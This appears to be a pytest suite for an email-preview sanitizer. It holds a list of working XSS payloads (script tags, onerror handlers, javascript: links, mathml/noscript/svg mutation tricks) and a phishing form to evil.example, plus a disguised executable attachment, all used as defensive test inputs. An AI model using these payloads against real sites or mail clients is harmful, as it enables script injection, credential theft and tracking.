"""A preview runs nothing, fetches nothing and leads nowhere, whatever the message tries."""

from __future__ import annotations

import re
from email.message import EmailMessage

import pytest

from lazaretto.mail.preview import MOST_CHARACTERS, Lead, harmless, preview_of
from lazaretto.mail.scanner import view_of

HOSTILE = [
    pytest.param("<script>alert(1)</script>", id="a script"),
    pytest.param("<scr<script>ipt>alert(1)</scr</script>ipt>", id="a script in a script"),
    pytest.param("<img src=x onerror=alert(1)>", id="an event"),
    pytest.param("<img/src='https://tracker.example/p.gif' alt=hello>", id="a tracking pixel"),
    pytest.param("<a href='javascript:alert(1)'>go</a>", id="a script behind a link"),
    pytest.param("<a href='https://evil.example/login'>your bank</a>", id="a link"),
    pytest.param(
        "<a href='java&#10;script:alert(1)' xlink:href='data:text/html,x'>go</a>", id="a broken scheme"
    ),
    pytest.param(
        "<form action=https://evil.example><input name=password><button>ok</button></form>", id="a form"
    ),
    pytest.param("<iframe srcdoc='<script>alert(1)</script>'></iframe>", id="a frame"),
    pytest.param("<object data=https://evil.example/x></object><embed src=//evil.example>", id="an object"),
    pytest.param(
        "<style>@import '//evil.example/s.css';body{background:url(//evil.example)}</style>x",
        id="style",
    ),
    pytest.param("<p style='background:url(https://evil.example/p)'>x</p>", id="a style attribute"),
    pytest.param("<table background=https://evil.example/p><tr><td>x</table>", id="a background"),
    pytest.param("<meta http-equiv=refresh content='0;url=https://evil.example'>x", id="a refresh"),
    pytest.param("<base href=https://evil.example/><a href=x>x</a>", id="a base"),
    pytest.param("<link rel=stylesheet href=https://evil.example/s.css>x", id="a style sheet"),
    pytest.param(
        "<svg><script href=//evil.example/x.js></script><a xlink:href=javascript:1>x</a></svg>", id="svg"
    ),
    pytest.param(
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
        id="a mutation through mathml",
    ),
    pytest.param(
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", id="a mutation through noscript"
    ),
    pytest.param(
        "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", id="a mutation through svg style"
    ),
    pytest.param("<template><img src=x onerror=alert(1)></template>x", id="a template"),
    pytest.param("<!--[if mso]><img src=https://evil.example><![endif]-->x", id="a conditional comment"),
    pytest.param("<video poster=https://evil.example/p src=https://evil.example/v></video>x", id="a video"),
    pytest.param(
        "<picture><source srcset=https://evil.example/p><img srcset=//evil.example/p></picture>", id="a set"
    ),
    pytest.param(
        "<p id=csrf name=csrf class=btn data-hx-get=/evil hx-post=/release>x</p>", id="a page's own names"
    ),
    pytest.param("<a ping=https://evil.example download target=_top>x</a>", id="a ping"),
    pytest.param("\0<scr\0ipt>alert(1)</scr\0ipt>", id="NUL in a tag"),
    pytest.param("<textarea><img src=x onerror=alert(1)></textarea>", id="a textarea"),
    pytest.param("<button formaction=javascript:alert(1)>x</button>", id="a form's button"),
]
ALLOWED = {"dir", "lang", "alt", "colspan", "rowspan", "align", "start"}


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_that_runs_fetches_or_leads_is_left(source: str) -> None:
    html, _ = harmless(f"<p>before</p>{source}<p>after</p>")

    tags = re.findall(r"<([a-z0-9]+)((?:\s[^>]*)?)>", html)
    assert not {name for name, _ in tags} & {
        "script",
        "style",
        "iframe",
        "form",
        "input",
        "svg",
        "math",
        "object",
    }
    attributes = {each for _, written in tags for each in re.findall(r"([\w:-]+)=\"", written)}
    assert attributes <= ALLOWED
    assert "<p>before</p>" in html


def test_what_comes_out_is_not_changed_by_cleaning_it_again() -> None:
    for source in (str(each.values[0]) for each in HOSTILE):
        once, _ = harmless(source)
        assert harmless(once)[0] == once


def test_words_and_structure_stay() -> None:
    html, is_cut = harmless("<h1>News</h1><ul><li>one<li><b>two</b></ul><td colspan=2>x")

    assert html.startswith("<h1>News</h1><ul><li>one</li><li><b>two</b></li></ul>")
    assert not is_cut


@pytest.mark.parametrize(
    "source",
    [pytest.param("<div>" * 500_000, id="deep"), pytest.param("x" * 5_000_000, id="long")],
)
def test_what_is_shown_is_bounded_and_says_so(source: str) -> None:
    html, is_cut = harmless(source)

    assert is_cut
    assert len(html) < 4 * MOST_CHARACTERS


def _message(html: str, text: str = "") -> EmailMessage:
    message = EmailMessage()
    message["Subject"] = "x"
    message.set_content(text or html, subtype="plain" if text else "html")
    return message


def test_links_are_told_by_the_host_that_they_really_lead_to() -> None:
    html = "<a href='https://evil.example/login'>www.bank.example</a><img src='https://t.example/p.gif'>"

    preview = preview_of(view_of(_message(html).as_bytes()))

    assert preview.leads[0] == Lead("evil.example", "www.bank.example")
    assert "t.example" not in {each.host for each in preview.leads}
    assert preview.pictures_left_out == 1
    assert "evil" not in preview.html


def test_a_plain_text_is_shown_as_text() -> None:
    preview = preview_of(view_of(_message("", "1 < 2 <script>").as_bytes()))

    assert (preview.html, preview.text.strip()) == ("", "1 < 2 <script>")


def test_files_are_named_with_what_they_really_are_and_never_shown() -> None:
    message = _message("<p>hello</p>")
    message.add_attachment(b"MZ" + b"\0" * 100, maintype="application", subtype="pdf", filename="invoice.pdf")

    preview = preview_of(view_of(message.as_bytes()))

    assert [(each.name, each.kind.value) for each in preview.files] == [("invoice.pdf", "dos-exe")]


def test_a_form_is_told_of() -> None:
    preview = preview_of(
        view_of(_message("<form action=https://evil.example><input type=password></form>").as_bytes())
    )

    assert preview.has_form
